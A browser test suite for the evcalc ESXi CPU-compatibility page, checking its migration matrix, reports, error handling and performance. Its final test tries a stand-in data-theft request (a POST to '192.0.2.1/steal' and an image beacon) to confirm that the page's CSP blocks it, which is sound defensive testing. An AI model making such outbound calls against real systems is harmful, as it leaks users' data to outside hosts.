// Browser tests of the evcalc page in real headless Chromium. Run: node --test (from tests/e2e)
// or tests/e2e/run.sh (builds the module first). Screenshots go to target/e2e-artifacts/.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { REPO, artefact, startServer, startBrowser, openPage, analysed, seqOf, example, shot, paste, watchMainThread, longestStall, copy, pressPaste } from './harness.mjs';

const HOSTS = ['esxi01.txt', 'esxi02.txt', 'esxi03.txt', 'esxi04.txt'];
let server, base, browser;

before(async () => {
  ({ server, base } = await startServer());
  browser = await startBrowser(base);
});
after(async () => {
  await browser?.close();
  server?.close();
});

const cell = (page, from, to) => page.locator(`#matrix td[data-from="${from}"][data-to="${to}"]`);

async function pasteAndWait(page, text) {
  const n = await seqOf(page);
  await paste(page, text);
  await analysed(page, n);
}

async function chooseEvc(page, mode) {
  const n = await seqOf(page);
  await page.selectOption('#evc', mode);
  await analysed(page, n);
}

test('MDCLEAR cluster: matrix, drift, maintenance, detail, rename/remove, reports', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, HOSTS.map(example).join('\n'));
  await chooseEvc(page, 'intel-haswell');

  // Hosts
  const rows = page.locator('#hosts-table tbody tr');
  assert.equal(await rows.count(), 4);
  for (const name of ['esxi01', 'esxi02', 'esxi03', 'esxi04']) {
    const row = page.locator(`#hosts-table tr[data-host="${name}"]`);
    assert.match(await row.innerText(), /intel-haswell/);
    assert.match(await row.innerText(), /6\.7\.0/);
  }

  // Matrix: esxi01 → esxi02 blocked by MDCLEAR, esxi02 → esxi01 allowed.
  const blocked = cell(page, 'esxi01', 'esxi02');
  assert.match(await blocked.getAttribute('class'), /\bbad\b/);
  const blockedText = await blocked.innerText();
  assert.match(blockedText, /cpuid\.MDCLEAR/);
  assert.match(blockedText, /Microarchitectural Data clear/);
  for (const to of ['esxi03', 'esxi04']) assert.match(await cell(page, 'esxi01', to).getAttribute('class'), /\bbad\b/);
  const allowed = cell(page, 'esxi02', 'esxi01');
  assert.match(await allowed.getAttribute('class'), /\bok\b/);
  assert.match(await allowed.innerText(), /can move/);
  assert.equal(await page.locator('#matrix td.bad').count(), 3);

  // Drift
  const drift = await page.locator('#drift').innerText();
  assert.match(drift, /cpuid\.MDCLEAR/);
  assert.match(drift, /Microarchitectural Data clear/);
  assert.match(drift, /only 1 of 4 hosts: esxi01/);

  // Maintenance of esxi01: not fully evacuable; esxi02–04 report MDCLEAR 0 raw: activate the microcode.
  const m1 = await page.locator('#maintenance details[data-host="esxi01"]').innerText();
  assert.match(m1, /cannot be fully evacuated/);
  assert.match(m1, /VMs of vmx-9 and later powered on there require cpuid.MDCLEAR, which esxi02–04 do not offer/);
  assert.match(m1, /Activate the MDS microcode on esxi02–04/);
  assert.match(m1, /KB 68024/);
  assert.match(await page.locator('#maintenance details[data-host="esxi02"]').innerText(), /can enter maintenance mode/);

  await shot(page, 'mdclear-overview.png');

  // Click the red cell: the detail names the feature, required vs available, admission and remedy.
  await blocked.click();
  const detail = page.locator('#detail');
  await detail.waitFor();
  const d = await detail.innerText();
  assert.match(d, /esxi01 → esxi02: blocked/);
  assert.match(d, /Microarchitectural Data clear/);
  assert.match(d, /Bool:Min:1/);
  assert.match(d, /esxi02 can join EVC mode intel-haswell/);
  assert.match(d, /Activate the MDS microcode on esxi02–04/);
  assert.match(d, /the other way \(esxi02 → esxi01\): can move/);
  await detail.screenshot({ path: artefact('mdclear-detail.png') });
  await shot(page, 'mdclear-detail-page.png');

  // Reports
  const [json] = await Promise.all([page.waitForEvent('download'), page.click('#download-json')]);
  const report = JSON.parse(fs.readFileSync(await json.path(), 'utf8'));
  assert.equal(report.cluster.evc_mode, 'intel-haswell');
  assert.equal(report.cluster.matrix.length, 4);
  assert.ok(report.cluster.drift.some((x) => x.key === 'cpuid.MDCLEAR'));
  assert.match(json.suggestedFilename(), /^evcalc-report-.*\.json$/);
  const [md] = await Promise.all([page.waitForEvent('download'), page.click('#download-md')]);
  const markdown = fs.readFileSync(await md.path(), 'utf8');
  assert.match(markdown, /^# evcalc report/);
  assert.match(markdown, /`cpuid\.MDCLEAR` — Microarchitectural Data clear: only 1 of 4 hosts: esxi01/);
  assert.match(markdown, /esxi01 → esxi02: `cpuid\.MDCLEAR`/);
  assert.match(markdown, /Activate the MDS microcode on esxi02–04/);


  // Per-VM EVC Westmere hides MDCLEAR: everything can move.
  let n = await seqOf(page);
  await page.selectOption('#per-vm-evc', 'intel-westmere');
  await analysed(page, n);
  assert.equal(await page.locator('#matrix td.bad').count(), 0);
  n = await seqOf(page);
  await page.selectOption('#per-vm-evc', '');
  await analysed(page, n);
  assert.equal(await page.locator('#matrix td.bad').count(), 3);

  // Rename esxi04, then remove esxi03 and restore it.
  n = await seqOf(page);
  await page.locator('#hosts-table tr[data-host="esxi04"] button', { hasText: 'Rename' }).click();
  await page.fill('#hosts-table input.rename-input', 'esxi04-new');
  await page.press('#hosts-table input.rename-input', 'Enter');
  await analysed(page, n);
  assert.equal(await page.locator('#hosts-table tr[data-host="esxi04-new"]').count(), 1);
  assert.match(await page.locator('#hosts-table tr[data-host="esxi04-new"]').innerText(), /renamed from esxi04/);
  assert.match(await cell(page, 'esxi01', 'esxi04-new').getAttribute('class'), /\bbad\b/);
  n = await seqOf(page);
  await page.locator('#hosts-table tr[data-host="esxi03"] button', { hasText: 'Remove' }).click();
  await analysed(page, n);
  assert.equal(await page.locator('#matrix tbody tr').count(), 3);
  assert.match(await page.locator('#drift').innerText(), /only 1 of 3 hosts: esxi01/);
  n = await seqOf(page);
  await page.locator('#removed button', { hasText: 'restore' }).click();
  await analysed(page, n);
  assert.equal(await page.locator('#matrix tbody tr').count(), 4);

  assert.deepEqual(problems, []);
  await page.close();
});

test('Load example button loads the bundled cluster', async () => {
  const { page, problems } = await openPage(browser.context, base);
  const n = await seqOf(page);
  await page.click('#load-example');
  await analysed(page, n);
  assert.ok((await page.locator('#filelist li').count()) >= 4);
  assert.match(await cell(page, 'esxi01', 'esxi02').getAttribute('class'), /\bbad\b/);
  assert.match(await cell(page, 'esxi02', 'esxi01').getAttribute('class'), /\bok\b/);
  assert.match(await page.locator('#evc option[value=""]').innerText(), /intel-haswell/);
  await shot(page, 'example.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('a real govc host file chosen with the file picker shows up as intel-broadwell', async () => {
  const { page, problems } = await openPage(browser.context, base);
  const n = await seqOf(page);
  await page.setInputFiles('#files', path.join(REPO, 'tests/data/real/govc/object.save-vmc-sddc/0082-HostSystem-host-14.xml'));
  await analysed(page, n);
  assert.equal(await page.locator('#filelist li').count(), 1);
  assert.match(await page.locator('#filelist').innerText(), /0082-HostSystem-host-14\.xml/);
  const rows = page.locator('#hosts-table tbody tr');
  assert.equal(await rows.count(), 1);
  const row = await rows.first().innerText();
  assert.match(row, /intel-broadwell/);
  assert.match(row, /E5-2686 v4/);
  assert.match(row, /8\.0\.1/);
  assert.match(await page.locator('#filelist').innerText(), /govc XML/);
  await shot(page, 'govc-host.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('files dropped on the page are read, one input per file', async () => {
  const { page, problems } = await openPage(browser.context, base);
  const n = await seqOf(page);
  const files = ['esxi01.txt', 'esxi02.txt'].map((name) => ({ name, text: example(name) }));
  const dt = await page.evaluateHandle((files) => {
    const dt = new DataTransfer();
    for (const f of files) dt.items.add(new File([f.text], f.name, { type: 'text/plain' }));
    return dt;
  }, files);
  await page.dispatchEvent('#dropzone', 'dragenter', { dataTransfer: dt });
  assert.equal(await page.evaluate(() => document.body.classList.contains('dragging')), true);
  await page.dispatchEvent('#dropzone', 'drop', { dataTransfer: dt });
  await analysed(page, n);
  assert.equal(await page.locator('#filelist li').count(), 2);
  assert.match(await page.locator('#filelist li[data-name="esxi01.txt"]').innerText(), /host esxi01/);
  assert.match(await cell(page, 'esxi01', 'esxi02').getAttribute('class'), /\bbad\b/);
  assert.equal(await page.evaluate(() => document.body.classList.contains('dragging')), false);
  assert.deepEqual(problems, []);
  await page.close();
});

test('a grep -A 2 MDCLEAR transcript is enough to see the blocker (partial data marked as such)', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, example('grep-MDCLEAR.txt'));
  await chooseEvc(page, 'intel-haswell');
  assert.equal(await page.locator('#hosts-table tbody tr').count(), 4);
  assert.match(await page.locator('#hosts-table tr[data-host="esxi02"]').innerText(), /partial input/);
  const blocked = cell(page, 'esxi01', 'esxi02');
  assert.match(await blocked.getAttribute('class'), /\bbad\b/);
  assert.match(await blocked.innerText(), /cpuid\.MDCLEAR/);
  const unsure = cell(page, 'esxi02', 'esxi01');
  assert.match(await unsure.getAttribute('class'), /\bok\b.*\bunsure\b/);
  assert.match(await unsure.innerText(), /partial data/);
  assert.match(await page.locator('#drift').innerText(), /only 1 of 4 hosts: esxi01/);
  await shot(page, 'grep-fragment.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('a blocked cell of an evacuable host still names its remedy (from the core\'s rule)', async () => {
  // esxi05 is a second host with MDCLEAR = 1: esxi01 can be evacuated to it, so esxi01's
  // maintenance plan has no remedies, yet esxi01 → esxi02 stays blocked by MDCLEAR.
  const { page, problems } = await openPage(browser.context, base);
  const esxi05 = example('esxi01.txt').replaceAll('"esxi01"', '"esxi05"');
  await pasteAndWait(page, [...HOSTS.map(example), esxi05].join('\n'));
  await chooseEvc(page, 'intel-haswell');
  assert.match(await page.locator('#maintenance details[data-host="esxi01"]').innerText(), /can enter maintenance mode/);
  await cell(page, 'esxi01', 'esxi02').click();
  const detail = page.locator('#detail');
  await detail.waitFor();
  const d = await detail.innerText();
  assert.match(d, /esxi01 → esxi02: blocked/);
  assert.match(d, /Nothing needs fixing to evacuate esxi01/);
  assert.match(d, /Activate the MDS microcode on esxi02/);
  assert.match(d, /KB 68024/);
  assert.deepEqual(problems, []);
  await page.close();
});

test('garbage input gives a readable error naming the input and the line', async () => {
  const { page, problems } = await openPage(browser.context, base);
  await pasteAndWait(page, '\n\nthis is not an ESXi dump\nat all\n');
  const errors = page.locator('#errors');
  await errors.waitFor();
  const text = await errors.innerText();
  assert.match(text, /Pasted text — line 3, column 1/);
  assert.match(text, /unrecognised input: expected `vim-cmd hostsvc\/hostconfig`/);
  assert.match(text, /this is not an ESXi dump/); // the offending line is quoted
  assert.equal(await page.locator('#hosts-table tbody tr').count(), 0);
  await shot(page, 'garbage.png');

  // A file that breaks in the middle: the error names the file and the line.
  const broken = example('esxi02.txt').split('\n');
  const at = broken.findIndex((l) => l.includes('cpuid.AVX2')) + 1;
  broken.splice(at, 0, '         value = = "1"');
  const n = await seqOf(page);
  await page.fill('#input', '');
  await page.setInputFiles('#files', { name: 'esxi02-broken.txt', mimeType: 'text/plain', buffer: Buffer.from(broken.join('\n')) });
  await analysed(page, n);
  const text2 = await errors.innerText();
  assert.match(text2, new RegExp(`esxi02-broken\\.txt — line ${at + 1}, column \\d+`));
  await shot(page, 'broken-file.png');
  assert.deepEqual(problems, []);
  await page.close();
});

function renamedCopies(count, prefix) {
  const texts = [];
  for (let i = 0; i < count; i++) {
    const src = HOSTS[i % 4];
    const name = `${prefix}${String(i + 1).padStart(String(count).length, '0')}`;
    texts.push(example(src).replace(`hostName = "${src.slice(0, 6)}"`, `hostName = "${name}"`));
  }
  return texts.join('\n');
}

test('32 hosts: paste-to-matrix time', async (t) => {
  const { page, problems } = await openPage(browser.context, base);
  const all = renamedCopies(32, 'esx');
  await copy(page, all);
  await watchMainThread(page);
  const n = await seqOf(page);
  const t0 = Date.now();
  await pressPaste(page);
  await analysed(page, n);
  const ms = Date.now() - t0;
  const stall = await longestStall(page);
  assert.equal(await page.locator('#matrix tbody tr').count(), 32);
  assert.equal(await page.locator('#matrix tbody tr:first-child td').count(), 32);
  assert.match(await cell(page, 'esx01', 'esx02').getAttribute('class'), /\bbad\b/);
  assert.match(await cell(page, 'esx02', 'esx01').getAttribute('class'), /\bok\b/);
  assert.match(await page.locator('#filelist').innerText(), /paste/); // a 2 MB paste is kept out of the editor
  const d = await page.evaluate(() => ({ ...document.body.dataset }));
  const msg = `32 hosts (${(all.length / 1e6).toFixed(1)} MB pasted): Ctrl+V → matrix rendered in ${ms} ms (paste event → rendered ${d.pasteToRenderMs} ms); engine (wasm) ${d.engineMs} ms, worker → page ${d.transferMs} ms, render ${d.renderMs} ms; longest main-thread stall ${stall} ms`;
  t.diagnostic(msg);
  await shot(page, 'hosts-32.png');
  assert.deepEqual(problems, []);
  await page.close();
});

test('20 MB paste (330 hosts): the page stays responsive', async (t) => {
  const { page, problems } = await openPage(browser.context, base);
  const all = renamedCopies(330, 'esx');
  await copy(page, all);
  await watchMainThread(page);
  const n = await seqOf(page);
  const t0 = Date.now();
  await pressPaste(page);
  // While the engine works, the page still answers.
  const busyAnswer = Date.now();
  await page.evaluate(() => document.getElementById('status').textContent);
  const answerMs = Date.now() - busyAnswer;
  await analysed(page, n, 120000);
  const ms = Date.now() - t0;
  const stall = await longestStall(page);
  assert.equal(await page.locator('#hosts-table tbody tr').count(), 330);
  // The big matrix is a scrolling grid that builds only the visible cells.
  assert.ok((await page.locator('#vmatrix .vcell').count()) < 2000);
  const c = page.locator('#vmatrix .vcell[data-from="esx001"][data-to="esx002"]');
  assert.match(await c.getAttribute('class'), /\bbad\b/);
  assert.match(await c.innerText(), /MDCLEAR/);
  await c.click();
  assert.match(await page.locator('#detail').innerText(), /esx001 → esx002: blocked/);
  const d = await page.evaluate(() => ({ ...document.body.dataset }));
  const msg = `330 hosts (${(all.length / 1e6).toFixed(1)} MB pasted): Ctrl+V → everything rendered in ${ms} ms (paste event → rendered ${d.pasteToRenderMs} ms); engine (wasm) ${d.engineMs} ms, worker → page ${d.transferMs} ms, render ${d.renderMs} ms; longest main-thread stall ${stall} ms; page answered a query during the analysis in ${answerMs} ms`;
  t.diagnostic(msg);
  await page.locator('#matrix-wrap').evaluate((w) => { w.scrollTop = 40 * 150; w.scrollLeft = 124 * 100; });
  await page.waitForTimeout(100);
  assert.ok((await page.locator('#vmatrix .vcell[data-from="esx160"]').count()) > 0);
  await page.locator('#matrix-panel').screenshot({ path: artefact('hosts-330-matrix.png') });
  assert.deepEqual(problems, []);
  await page.close();
});

test('nothing but the page’s own origin was contacted, and the CSP blocks the rest', async () => {
  const origin = new URL(base).origin;
  // Everything the tests above did (pages, worker, module, example, files, downloads).
  const urls = [...browser.requests];
  assert.ok(urls.some((u) => u.endsWith('/pkg/evcalc_wasm_bg.wasm')), 'the module load (from the worker) was observed');
  assert.ok(urls.some((u) => u.endsWith('/worker.js')));
  const foreign = urls.filter((u) => !(u.startsWith(`${origin}/`) || u.startsWith(`blob:${origin}/`) || u.startsWith('data:')));
  assert.deepEqual(foreign, [], `requests that left ${origin}`);

  // And the page's Content-Security-Policy refuses connections elsewhere, in the page and in
  // the worker (192.0.2.1 is reserved for documentation).
  const { page } = await openPage(browser.context, base);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetchFailed = false;
    try {
      await fetch('http://192.0.2.1/steal', { method: 'POST', body: 'x' });
    } catch {
      fetchFailed = true;
    }
    const img = new Image();
    img.src = 'http://192.0.2.1/pixel.png';
    await new Promise((r) => setTimeout(r, 300));
    return { fetchFailed, violations };
  });
  assert.equal(outcome.fetchFailed, true);
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
  assert.ok(outcome.violations.includes('img-src'), JSON.stringify(outcome));
  const probes = browser.requests.slice(urls.length).filter((u) => u.includes('192.0.2.1'));
  for (const u of probes) {
    const f = browser.failed.find((x) => x.url === u);
    assert.ok(f && /^csp$|BLOCKED_BY_CSP/i.test(f.error ?? ''), `${u} was not blocked by the CSP: ${JSON.stringify(f)}`);
  }
  await page.close();
});
